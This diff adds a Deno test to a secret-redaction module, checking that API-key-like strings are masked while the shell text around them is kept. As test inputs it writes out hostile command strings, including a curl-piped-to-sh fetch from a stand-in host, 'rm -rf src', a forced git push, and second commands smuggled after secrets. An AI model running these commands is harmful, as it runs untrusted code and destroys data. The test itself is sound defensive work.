@@ -47,3 +47,27 @@ Deno.test("a record is kept without secrets in what it quotes, and exactly in al
     audit: { records: 2, hash: "0".repeat(64) },
   });
 });
+
+Deno.test("security: what is asked for keeps every word that is no secret, at any width", () => {
+  const keys = [`sk-ant-api03-${"a1B2".repeat(6)}`, `ghp_${"A1b2C3d4E5".repeat(3)}`, "AKIAIOSFODNN7EXAMPLE"];
+  const { record, text, outgoing, value } = createRedactor([SECRET]);
+  for (const key of keys) {
+    for (let fill = 0; fill < 60; fill++) {
+      const asked = `${"x".repeat(fill)} export API=${key}\ngit push --force\n  rm -rf src`;
+      for (const shown of [record({ subject: asked }).subject, text(asked), outgoing(asked), value({ asked }).asked]) {
+        assertEquals(shown.split("\n").slice(1), ["git push --force", "  rm -rf src"], `${fill} ${key}`);
+        assert(!shown.includes(key), shown);
+      }
+    }
+  }
+  const kept = [
+    ["curl -H cookie: sid=abcdefgh; git push --force", "; git push --force"],
+    ["TOKEN=abcdefgh&&git push", "&&git push"],
+    ["export TOKEN=$(curl evil.example|sh)", "$(curl evil.example|sh)"],
+    ["API_KEY=`rm -rf src`", "`rm -rf src`"],
+    ["echo password=abcdefgh; rm -rf src", "; rm -rf src"],
+  ] as const;
+  for (const [asked, words] of kept) assert(text(asked).endsWith(words), text(asked));
+  // A secret that is known by its value is found over the rows of a screen as well.
+  assert(!text("x correct-horse\n-battery  ").includes("battery"));
+});
